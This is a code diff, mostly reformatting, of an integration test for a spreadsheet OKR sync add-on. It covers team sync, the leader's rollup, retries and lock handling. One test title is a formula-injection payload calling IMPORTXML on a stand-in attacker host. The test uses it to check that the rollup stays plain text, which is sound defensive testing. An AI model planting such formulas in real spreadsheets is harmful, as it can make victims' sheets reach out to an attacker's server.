@@ -1,9 +1,9 @@
 // Sync, check-in and Pull rollup from the built add-on against the real API (node server + dynalite in a
 // child process, reached by the double's synchronous UrlFetchApp): two team spreadsheets and a leader's.
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { ensureBuiltAddon } from "../support/gas/built-addon.js";
 import { type ApiChild, startApiChild } from "../support/gas/api-child.js";
-import { loadAddon } from "../support/gas/load-addon.js";
+import { ensureBuiltAddon } from "../support/gas/built-addon.js";
+import { type AddonGlobals, loadAddon } from "../support/gas/load-addon.js";
 import { FakeWorkbook } from "../support/gas/spreadsheet.js";
 
 let api: ApiChild;
@@ -17,13 +17,39 @@ afterAll(async () => {
   await api?.stop();
 });
 
-const HEADER = ["ID", "Type", "Title", "Objective", "Aligns to", "Level", "Team", "Owner", "Cycle", "Start", "Target", "Current"];
+const HEADER = [
+  "ID",
+  "Type",
+  "Title",
+  "Objective",
+  "Aligns to",
+  "Level",
+  "Team",
+  "Owner",
+  "Cycle",
+  "Start",
+  "Target",
+  "Current",
+];
 
 function leaderBook(): FakeWorkbook {
   const book = new FakeWorkbook(undefined, "leader-spreadsheet");
   book.addSheet("Company", [
     HEADER,
-    ["O-CO1", "Objective", "Become the customers' favourite", "", "", "Company", "Leadership", "Eva", "2026-Q4", "", "", ""],
+    [
+      "O-CO1",
+      "Objective",
+      "Become the customers' favourite",
+      "",
+      "",
+      "Company",
+      "Leadership",
+      "Eva",
+      "2026-Q4",
+      "",
+      "",
+      "",
+    ],
     ["KR-CO1", "Key result", "Reach NPS 50", "O-CO1", "", "", "", "Eva", "", 10, 50, 30],
   ]);
   return book;
@@ -34,20 +60,38 @@ function teamBook(team: string, objectiveId: string, title: string): FakeWorkboo
   book.addSheet(team, [
     HEADER,
     [objectiveId, "Objective", title, "", "O-CO1", "Team", team, "Ada", "2026-Q4", "", "", ""],
-    [`KR-${objectiveId}`, "Key result", `${team}: answer within 2 hours`, objectiveId, "", "", "", "Ada", "", 8, 2, 5],
+    [
+      `KR-${objectiveId}`,
+      "Key result",
+      `${team}: answer within 2 hours`,
+      objectiveId,
+      "",
+      "",
+      "",
+      "Ada",
+      "",
+      8,
+      2,
+      5,
+    ],
   ]);
   return book;
 }
 
-function connect(addon: Record<string, (...args: unknown[]) => unknown>, key: string, sheetId: string) {
-  const saved = addon.saveSettings({ apiUrl: api.url, apiKey: key, sheetId }) as { ok: boolean; errors: string[] };
+function connect(addon: AddonGlobals, key: string, sheetId: string) {
+  const saved = addon.saveSettings({ apiUrl: api.url, apiKey: key, sheetId }) as {
+    ok: boolean;
+    errors: string[];
+  };
   expect(saved.errors).toEqual([]);
 }
 
 describe("sync against the real API", () => {
   it("two teams sync, the leader's Pull rollup shows both aligned under the company objective, as plain text", () => {
     // A title that would be a formula (injection) and one that Sheets would read as a number.
-    const support = loadAddon({ book: teamBook("Support", "O-SUP", "'=IMPORTXML(\"https://evil.example\",\"//a\")") });
+    const support = loadAddon({
+      book: teamBook("Support", "O-SUP", '\'=IMPORTXML("https://evil.example","//a")'),
+    });
     const sales = loadAddon({ book: teamBook("Sales", "O-SAL", "'+1") });
     const leader = loadAddon({ book: leaderBook() });
     connect(support.addon, api.writerKeys["team-support"]!, "team-support");
@@ -61,7 +105,10 @@ describe("sync against the real API", () => {
       expect(outcome.revision).toBe(1);
     }
     // The last to sync sees every objective in its catalog (the Aligns to dropdown's source).
-    const catalog = leader.gas.book.sheet("OKR Catalog")!.values().map((r) => r[0]);
+    const catalog = leader.gas.book
+      .sheet("OKR Catalog")!
+      .values()
+      .map((r) => r[0]);
     expect(catalog).toEqual(expect.arrayContaining(["O-CO1", "O-SAL", "O-SUP"]));
 
     const pulled = leader.addon.menuPullRollup() as { ok: boolean; message: string };
@@ -74,24 +121,45 @@ describe("sync against the real API", () => {
     // Children follow their parent, indented.
     const children = rows.slice(company + 1, company + 3);
     expect(children.map((r) => r[1]).sort()).toEqual(["O-SAL", "O-SUP"]);
-    expect(children.map((r) => String(r[0]).trim()).sort()).toEqual(["+1", '=IMPORTXML("https://evil.example","//a")']);
+    expect(children.map((r) => String(r[0]).trim()).sort()).toEqual([
+      "+1",
+      '=IMPORTXML("https://evil.example","//a")',
+    ]);
     // Not one formula anywhere in the Rollup sheet.
     expect(rollup.formulas().flat().filter(Boolean)).toEqual([]);
     expect(rows[company]![8]).toBeTypeOf("string");
   });
 
   it("sends only changed rows in full, records check-ins on the server, and keeps formula Current values", () => {
-    const team = loadAddon({ book: teamBook("Support", "O-SU2", "Happier customers"), userEmail: "ada@example.com" });
+    const team = loadAddon({
+      book: teamBook("Support", "O-SU2", "Happier customers"),
+      userEmail: "ada@example.com",
+    });
     connect(team.addon, api.writerKeys["team-support"]!, "team-support");
     team.addon.menuSetUpSheet();
-    const first = team.addon.menuSyncNow() as { ok: boolean; fullRows: number; stubs: number; revision: number };
+    const first = team.addon.menuSyncNow() as {
+      ok: boolean;
+      fullRows: number;
+      stubs: number;
+      revision: number;
+    };
     expect(first).toMatchObject({ ok: true, fullRows: 2, stubs: 0 });
     const unchanged = team.addon.menuSyncNow() as { ok: boolean; fullRows: number; stubs: number };
     expect(unchanged).toMatchObject({ ok: true, fullRows: 0, stubs: 2 });
 
-    const checkIn = team.addon.submitCheckIn({ krId: "KR-O-SU2", value: 4, confidence: 0.7, note: "faster triage" }) as { ok: boolean; sent: boolean };
+    const checkIn = team.addon.submitCheckIn({
+      krId: "KR-O-SU2",
+      value: 4,
+      confidence: 0.7,
+      note: "faster triage",
+    }) as { ok: boolean; sent: boolean };
     expect(checkIn).toMatchObject({ ok: true, sent: true });
-    const second = team.addon.menuSyncNow() as { ok: boolean; fullRows: number; stubs: number; revision: number };
+    const second = team.addon.menuSyncNow() as {
+      ok: boolean;
+      fullRows: number;
+      stubs: number;
+      revision: number;
+    };
     expect(second).toMatchObject({ ok: true, fullRows: 1, stubs: 1, revision: first.revision + 1 });
     const bytes = team.gas.fetches.filter((f) => f.url.endsWith("/sync")).map((f) => f.bytes);
     expect(bytes[2]!).toBeLessThan(bytes[0]!);
@@ -103,7 +171,11 @@ describe("sync against the real API", () => {
     connect(team.addon, api.writerKeys["team-support"]!, "team-support");
     team.addon.menuSetUpSheet();
     let failures = 2;
-    team.gas.intercept((url) => (url.endsWith("/sync") && failures-- > 0 ? { status: 503, body: '{"error":{"code":"unavailable","message":"try later"}}' } : null));
+    team.gas.intercept((url) =>
+      url.endsWith("/sync") && failures-- > 0
+        ? { status: 503, body: '{"error":{"code":"unavailable","message":"try later"}}' }
+        : null,
+    );
     const recovered = team.addon.menuSyncNow() as { ok: boolean };
     expect(recovered.ok).toBe(true);
     expect(team.gas.sleeps).toEqual([500, 1000]);
@@ -113,7 +185,9 @@ describe("sync against the real API", () => {
     team.gas.intercept(() => "network");
     const failed = team.addon.menuSyncNow() as { ok: boolean; message: string };
     expect(failed.ok).toBe(false);
-    expect(failed.message).toMatch(/^Sync failed after 4 attempts: cannot reach http:\/\/.*Nothing in the sheet was changed\.$/);
+    expect(failed.message).toMatch(
+      /^Sync failed after 4 attempts: cannot reach http:\/\/.*Nothing in the sheet was changed\.$/,
+    );
     expect(team.gas.book.sheets.map((s) => s.values())).toEqual(before);
     expect(team.gas.documentProperties.getProperty("okr.revision")).toBe(revision);
     expect(team.gas.ui.shown.at(-1)?.html).toContain("Sync failed after 4 attempts");
@@ -124,13 +198,20 @@ describe("sync against the real API", () => {
     connect(team.addon, api.writerKeys["team-support"]!, "team-support");
     team.gas.lock.held = true;
     const outcome = team.addon.menuSyncNow() as { ok: boolean; message: string };
-    expect(outcome).toMatchObject({ ok: false, message: "Another sync of this spreadsheet is running; try again in a minute." });
+    expect(outcome).toMatchObject({
+      ok: false,
+      message: "Another sync of this spreadsheet is running; try again in a minute.",
+    });
     expect(team.gas.fetches).toHaveLength(0);
   });
 
   it("without an API, sync says how to connect", () => {
     const team = loadAddon({ book: teamBook("Support", "O-SU5", "Offline") });
     const outcome = team.addon.menuSyncNow() as { ok: boolean; message: string };
-    expect(outcome).toEqual({ ok: false, message: "Not connected: add the API URL and key in Settings.", problems: [] });
+    expect(outcome).toEqual({
+      ok: false,
+      message: "Not connected: add the API URL and key in Settings.",
+      problems: [],
+    });
   });
 });
